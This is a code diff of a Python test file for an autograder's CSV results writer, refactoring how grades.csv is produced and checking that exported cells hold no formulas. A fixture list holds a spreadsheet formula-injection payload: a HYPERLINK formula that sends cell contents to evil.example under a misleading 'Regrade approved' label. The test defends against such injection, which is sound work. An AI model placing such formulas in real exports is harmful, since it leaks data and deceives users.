@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from autograder.engine.results import csv_writer, spreadsheet_cell, write_grades_csv, write_result
+from autograder.engine.results import GradesCsv, csv_writer, feed_results, spreadsheet_cell, write_result
 
 PACKAGE = Path(__file__).resolve().parents[2] / "autograder"
 HOSTILE = ['=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&C2,"Regrade approved")',
@@ -99,7 +99,7 @@ def _ids_are_neutralised(rows: list[list[str]], column: int) -> None:
 
 
 def test_grades_csv(hostile_class):
-    write_grades_csv(hostile_class)
+    feed_results(hostile_class, [GradesCsv(hostile_class)])
     rows = cells_of((hostile_class / "grades.csv").read_text(encoding="utf-8"))
     assert_no_formula(rows, "grades.csv")
     _ids_are_neutralised(rows, 0)
